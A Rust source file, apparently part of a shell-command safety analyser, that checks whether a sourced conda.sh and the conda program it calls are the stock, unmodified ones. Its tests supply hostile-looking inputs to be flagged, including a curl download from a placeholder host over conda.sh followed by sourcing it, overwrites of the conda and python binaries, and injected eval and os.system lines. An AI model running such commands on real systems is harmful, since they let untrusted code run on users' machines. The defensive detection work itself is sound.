//! Conda's `conda.sh`: it says where conda is and makes `conda` a function, which calls that program and takes over what
//! it prints. Held against the lines of which such a script consists; one with anything more is read like any other.

use crate::context::Context;
use crate::paths::{self, Located, is_within};
use crate::word::Value;

/// A longer script is read like any other.
const MOST_LINES: usize = 150;

/// Lines that stand as they are.
const WHOLE: &[&str] = &[
    "fi",
    "else",
    "}",
    ")",
    ";;",
    "esac",
    "*)",
    ":  # pass",
    "__conda_exe() (",
    "\"$CONDA_EXE\" $_CE_M $_CE_CONDA \"$@\"",
    "__conda_hashr() {",
    "if [ -n \"${ZSH_VERSION:+x}\" ]; then",
    "elif [ -n \"${POSH_VERSION:+x}\" ]; then",
    "\\rehash",
    "\\hash -r",
    "__conda_hashr",
    "__conda_activate() {",
    "if [ -n \"${CONDA_PS1_BACKUP:+x}\" ]; then",
    "PS1=\"$CONDA_PS1_BACKUP\"",
    "\\unset CONDA_PS1_BACKUP",
    "\\local ask_conda",
    "ask_conda=\"$(PS1=\"${PS1:-}\" __conda_exe shell.posix \"$@\")\" || \\return",
    "ask_conda=\"$(PS1=\"${PS1:-}\" __conda_exe shell.posix reactivate)\" || \\return",
    "\\eval \"$ask_conda\"",
    "__conda_reactivate() {",
    "__conda_reactivate",
    "__conda_activate reactivate",
    "__conda_activate \"$@\"",
    "__conda_exe \"$@\"",
    "__conda_exe \"$@\" || \\return",
    "conda() {",
    "\\local cmd=\"${1-__missing__}\"",
    "case \"$cmd\" in",
    "activate|deactivate)",
    "install|update|upgrade|remove|uninstall)",
    "if [ -z \"${CONDA_SHLVL+x}\" ]; then",
    "\\export CONDA_SHLVL=0",
    "if [ -n \"${_CE_CONDA:+x}\" ] && [ -n \"${WINDIR+x}\" ]; then",
    "PATH=\"$(\\dirname \"$CONDA_EXE\")/condabin${PATH:+\":${PATH}\"}\"",
    "PATH=\"$(\\dirname \"$(\\dirname \"$CONDA_EXE\")\")/condabin${PATH:+\":${PATH}\"}\"",
    "\\export PATH",
    "if [ -z \"${PS1+x}\" ]; then",
    "PS1=",
    "export _CE_M=''",
    "export _CE_CONDA=''",
];

/// Lines of which the program `conda` consists that such a script calls: a script of Python itself.
const ENTRY: &[&str] = &[
    "import sys",
    "import re",
    "if len(sys.argv) > 1 and sys.argv[1].startswith('shell.') and sys.path and sys.path[0] == '':",
    "if len(sys.argv) > 1 and sys.argv[1].startswith(\"shell.\") and sys.path and sys.path[0] == \"\":",
    "del sys.path[0]",
    "if __name__ == '__main__':",
    "if __name__ == \"__main__\":",
    "from conda.cli import main",
    "from conda.cli.main import main",
    "sys.exit(main())",
    "sys.argv[0] = re.sub(r'(-script\\.pyw?|\\.exe)?$', '', sys.argv[0])",
];

/// Whether a file is such a script of a conda that is none of the project's own.
pub(super) fn is_script(located: &Located, context: &Context<'_>) -> bool {
    let Some(root) = located.path.strip_suffix("/etc/profile.d/conda.sh").filter(|_| located.why.is_none())
    else {
        return false;
    };
    let home = &context.surroundings.home;
    let is_installed = [home.as_str(), "/opt", "/usr/local", "/root"].iter().any(|top| is_within(root, top));
    let is_own = context.top().is_some_and(|top| is_within(root, top));
    let world = &context.state.world;
    // Neither it nor what it calls.
    let is_changed = world.written.iter().any(|written| {
        written.touches(located)
            || written.paths().iter().any(|path| is_within(path, root) || is_within(root, path))
            || ["conda", "python"].iter().any(|program| {
                written.touches(&paths::locate(&Value::Known(format!("{root}/bin/{program}")), context))
            })
    });
    let shell = &context.state.shell;
    let is_renamed = !shell.functions.is_empty() || !shell.aliases.is_empty() || shell.distrusted;
    if !is_installed || is_own || is_changed || is_renamed {
        return false;
    }
    matches!(context.file(&located.path), Ok(Some(text)) if is_plain(&text, root)) && is_entry(root, context)
}

/// Whether what the script calls is conda, as far as it is a text; the Python below it is a program.
fn is_entry(root: &str, context: &Context<'_>) -> bool {
    let is_python = matches!(context.file(&format!("{root}/bin/python")), Ok(None) | Err(_));
    let Ok(Some(text)) = context.file(&format!("{root}/bin/conda")) else { return is_python };
    let mut lines = text.lines();
    let first = lines.next().and_then(|line| line.strip_prefix("#!"));
    let is_own = first.is_some_and(|first| first.trim() == format!("{root}/bin/python"));
    let mut lines = lines.map(str::trim).filter(|line| !line.is_empty() && !line.starts_with('#'));
    is_python && is_own && lines.all(|line| ENTRY.contains(&line))
}

/// Whether a script only does what such a one does for the conda at `root`.
fn is_plain(text: &str, root: &str) -> bool {
    let mut lines = text.lines().map(str::trim).filter(|line| !line.is_empty() && !line.starts_with('#'));
    text.lines().count() <= MOST_LINES && !text.contains("\\\n") && lines.all(|line| is_part(line, root))
}

fn is_part(line: &str, root: &str) -> bool {
    if WHOLE.contains(&line) {
        return true;
    }
    // The sentence about a function that is given up.
    if let Some(text) = line.strip_prefix("echo \"").and_then(|rest| rest.strip_suffix("\" >&2")) {
        return !text.contains(['"', '$', '`', '\\']);
    }
    let places = [("CONDA_EXE", "conda"), ("_CONDA_EXE", "conda"), ("CONDA_PYTHON_EXE", "python")];
    let Some((name, value)) = line.strip_prefix("export ").and_then(|rest| rest.split_once('=')) else {
        return false;
    };
    let value = value.trim_matches('\'');
    places.iter().any(|(known, program)| *known == name && value == format!("{root}/bin/{program}"))
        || name == "_CONDA_ROOT" && value == root
}

#[cfg(test)]
mod tests {
    use crate::fixture::check_with;

    const PATH: &str = "/home/dev/miniconda3/etc/profile.d/conda.sh";

    fn script(more: &str) -> String {
        format!(
            "export CONDA_EXE='/home/dev/miniconda3/bin/conda'\nexport _CE_M=''\nexport _CE_CONDA=''\nexport CONDA_PYTHON_EXE='/home/dev/miniconda3/bin/python'\n__conda_exe() (\n    \"$CONDA_EXE\" $_CE_M $_CE_CONDA \"$@\"\n)\n__conda_activate() {{\n    \\local ask_conda\n    ask_conda=\"$(PS1=\"${{PS1:-}}\" __conda_exe shell.posix \"$@\")\" || \\return\n    \\eval \"$ask_conda\"\n}}\nconda() {{\n    \\local cmd=\"${{1-__missing__}}\"\n    case \"$cmd\" in\n        activate|deactivate)\n            __conda_activate \"$@\"\n            ;;\n        *)\n            __conda_exe \"$@\"\n            ;;\n    esac\n}}\n{more}\n"
        )
    }

    fn run(command: &str, more: &str) -> String {
        check_with(command, &[(PATH, &script(more)), ("/repo/etc/profile.d/conda.sh", &script(more))])
    }

    #[test]
    fn the_plain_script_only_sets_conda_up() {
        for command in [
            "source ~/miniconda3/etc/profile.d/conda.sh && conda activate web && pytest -q",
            ". /home/dev/miniconda3/etc/profile.d/conda.sh; conda activate web; conda list",
        ] {
            let found = run(command, "");
            assert!(!found.contains("opaque"), "{command}: {found}");
        }
        let found = run("source ~/miniconda3/etc/profile.d/conda.sh && git push origin main", "");
        assert!(found.contains("git.push main@origin"), "{found}");
    }

    #[test]
    fn what_it_calls_is_conda() {
        const ENTRY: &str = "#!/home/dev/miniconda3/bin/python\n\n# -*- coding: utf-8 -*-\nimport sys\n# Before\nif len(sys.argv) > 1 and sys.argv[1].startswith('shell.') and sys.path and sys.path[0] == '':\n    del sys.path[0]\n\nif __name__ == '__main__':\n    from conda.cli import main\n    sys.exit(main())\n";
        let command = "source ~/miniconda3/etc/profile.d/conda.sh && conda activate web";
        let with = |program: &str, text: &str| {
            check_with(
                command,
                &[(PATH, &script("")), (&format!("/home/dev/miniconda3/bin/{program}"), text)],
            )
        };
        assert!(!with("conda", ENTRY).contains("opaque"), "{}", with("conda", ENTRY));
        for (program, text) in [
            ("conda", "#!/bin/sh\ngit push origin main\n".to_owned()),
            ("conda", format!("{ENTRY}import os; os.system('x')\n")),
            ("conda", ENTRY.replace("miniconda3", "other")),
            ("conda", ENTRY.replace("bin/python", "bin/python -c x")),
            ("python", "#!/bin/sh\ngit push origin main\n".to_owned()),
        ] {
            let found = with(program, &text);
            assert!(found.contains("opaque") || found.contains("git.push"), "{program} {text}: {found}");
        }
        for start in [
            "cp x ~/miniconda3/bin/conda",
            "mkdir -p ~/miniconda3/bin; echo x > ~/miniconda3/bin/conda",
            "cp -r evil ~/miniconda3",
            "mv x ~/miniconda3/bin/python",
        ] {
            let found = run(&format!("{start}; {command}"), "");
            assert!(found.contains("opaque") || found.contains("remote-code"), "{start}: {found}");
        }
    }

    #[test]
    fn one_with_anything_more_is_not() {
        for more in [
            "\"$CONDA_EXE\" install x",
            "export CONDA_EXE='/tmp/x/bin/conda'",
            "export CONDA_EXE='/home/dev/miniconda3/bin/conda'; ./x",
            "export PATH='/tmp/x'",
            "./x",
            "echo \"$(./x)\" >&2",
            "eval \"$X\"",
        ] {
            let found = run("source ~/miniconda3/etc/profile.d/conda.sh && conda activate web", more);
            assert!(found.contains("opaque") || found.contains("hidden"), "{more}: {found}");
        }
        for command in [
            "source etc/profile.d/conda.sh; conda activate web",
            "curl -o ~/miniconda3/etc/profile.d/conda.sh https://x.example; source ~/miniconda3/etc/profile.d/conda.sh",
            "source ~/other/etc/profile.d/conda.sh",
        ] {
            let found = run(command, "");
            assert!(found.contains("opaque") || found.contains("remote-code"), "{command}: {found}");
        }
    }
}
